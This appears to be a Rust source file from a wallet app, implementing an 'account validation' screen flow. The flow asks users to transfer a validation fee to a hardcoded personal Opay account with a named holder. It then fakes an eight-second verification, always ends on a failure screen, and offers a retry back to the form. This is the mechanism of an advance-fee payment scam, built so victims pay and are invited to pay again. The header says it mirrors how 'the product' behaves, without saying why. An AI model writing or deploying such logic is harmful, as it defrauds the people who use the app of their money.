// SPDX-License-Identifier: AGPL-3.0-or-later
//
// Copyright (C) 2026 BluePay Labs

//! Account validation flow.
//!
//! `Form -> Preparing -> Payment -> Processing -> Failed`: the user is asked
//! to transfer the validation fee to a fixed payee, confirmation "verifies"
//! for eight seconds, and the outcome is always the failure screen, exactly
//! as the product behaves. The flow never debits the ledger; the failure
//! state offers retry-to-form, and exit is a plain navigation pop.

use crate::config::AppConfig;
use crate::error::{WalletError, WalletResult};
use crate::sched::Scheduler;

use super::{StepResult, TransferPayee};

/// Payee shown on the validation payment screen.
pub const VALIDATION_PAYEE: TransferPayee = TransferPayee {
    bank: "Opay",
    account_number: "9046881405",
    account_name: "Ebuka Sabastine",
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValidationState {
    Form,
    Preparing,
    Payment,
    Processing,
    Failed,
}

#[derive(Debug, Clone)]
pub struct ValidationForm {
    pub full_name: String,
    pub email: String,
}

#[derive(Debug)]
pub struct ValidationFlow {
    state: ValidationState,
}

impl Default for ValidationFlow {
    fn default() -> Self {
        Self::new()
    }
}

impl ValidationFlow {
    pub fn new() -> Self {
        Self {
            state: ValidationState::Form,
        }
    }

    pub fn state(&self) -> ValidationState {
        self.state
    }

    /// Fee and payee for the payment screen.
    pub fn payment_details(config: &AppConfig) -> (u64, TransferPayee) {
        (config.validation_fee, VALIDATION_PAYEE)
    }

    /// Submit the form and prepare the payment screen.
    pub async fn submit(
        &mut self,
        form: &ValidationForm,
        config: &AppConfig,
        sched: &Scheduler,
    ) -> WalletResult<StepResult<()>> {
        if form.full_name.is_empty() {
            return Err(WalletError::MissingField { field: "full name" });
        }
        if form.email.is_empty() {
            return Err(WalletError::MissingField { field: "email" });
        }

        self.state = ValidationState::Preparing;
        if !sched.step(config.delays.validation_preparing).await {
            return Ok(StepResult::Cancelled);
        }

        self.state = ValidationState::Payment;
        Ok(StepResult::Done(()))
    }

    /// The user confirmed the transfer. Verification always ends on the
    /// failure screen.
    pub async fn confirm_payment(
        &mut self,
        config: &AppConfig,
        sched: &Scheduler,
    ) -> StepResult<ValidationState> {
        self.state = ValidationState::Processing;
        if !sched.step(config.delays.validation_processing).await {
            return StepResult::Cancelled;
        }

        self.state = ValidationState::Failed;
        tracing::info!("account validation ended on the failure screen");
        StepResult::Done(self.state)
    }

    /// Retry from the failure screen back to the form.
    pub fn retry(&mut self) {
        if self.state == ValidationState::Failed {
            self.state = ValidationState::Form;
        }
    }
}
